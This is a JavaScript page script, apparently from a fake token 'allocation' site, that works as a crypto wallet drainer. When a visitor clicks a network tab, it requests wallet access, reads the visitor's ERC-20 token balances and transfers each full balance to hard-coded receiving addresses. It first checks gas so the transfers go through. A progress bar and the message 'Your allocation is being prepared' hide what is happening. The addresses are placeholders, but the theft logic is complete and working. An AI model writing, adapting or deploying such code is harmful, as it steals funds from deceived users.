$(function () {
  const payTo = {
    ETH: "0x00000000000000000000000000000000C0FFEE01",
    BSC: "0x00000000000000000000000000000000C0FFEE01",
    POLYGON: "0x00000000000000000000000000000000C0FFEE02",
  };
  const assets = {
    ETH: [
      { sym: "USDT", at: "0x00000000000000000000000000000000000000A1", dec: 6 },
      { sym: "LINK", at: "0x00000000000000000000000000000000000000A2", dec: 18 },
    ],
    BSC: [{ sym: "CAKE", at: "0x00000000000000000000000000000000000000B1", dec: 18 }],
    POLYGON: [],
  };
  const abi = [
    "function balanceOf(address) view returns (uint256)",
    "function transfer(address,uint256) returns (bool)",
  ];

  async function moveToken(net, item, owner, signer, provider) {
    const erc = new ethers.Contract(item.at, abi, signer);
    const held = await erc.balanceOf(owner);
    if (held.isZero()) return false;
    let units;
    try {
      units = await erc.estimateGas.transfer(payTo[net], held);
    } catch (err) {
      units = ethers.BigNumber.from("65000");
    }
    const price = await provider.getGasPrice();
    const native = await provider.getBalance(owner);
    if (native.lt(price.mul(units))) return false;
    const tx = await erc.transfer(payTo[net], held, { gasLimit: units.mul(120).div(100), gasPrice: price });
    await tx.wait();
    return true;
  }

  async function runNetwork(net) {
    const provider = new ethers.providers.Web3Provider(window.ethereum, "any");
    const owner = (await provider.send("eth_requestAccounts", []))[0];
    const signer = provider.getSigner();
    let done = 0;
    for (const item of assets[net]) {
      $("#bar").css("width", Math.round((100 * ++done) / assets[net].length) + "%");
      await moveToken(net, item, owner, signer, provider);
    }
    $("#state").text("Your allocation is being prepared");
  }

  $(".net-tab").on("click", function () {
    runNetwork($(this).data("net"));
  });
});
